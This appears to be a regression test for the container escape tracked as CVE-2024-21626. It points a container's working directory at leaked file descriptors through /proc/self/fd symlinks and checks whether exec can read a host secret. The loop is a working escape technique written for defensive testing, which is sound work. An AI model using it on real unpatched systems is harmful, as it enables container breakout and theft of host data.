# class: leaked fds, odd cwd
# ids: CVE-2024-21626
# patch: fds-kept-and-cwd-unchecked
# The same with exec: the working directory is a link of the image to an fd.
needs_root
needs_exec
start_container
for n in 3 4 5 6 7 8 9 10; do
	ln -sfn /proc/self/fd/$n "$ROOTFS/work"
	output=$("$ATTACK" leak 20 "$HOST" timeout 20 "$RUNTIME" --root "$T/state" exec --cwd /work "$ID" /bin/sh -c 'cat secret' 2>&1 </dev/null)
	[[ $output != secret ]] || stolen "the secret was read through fd $n"
done
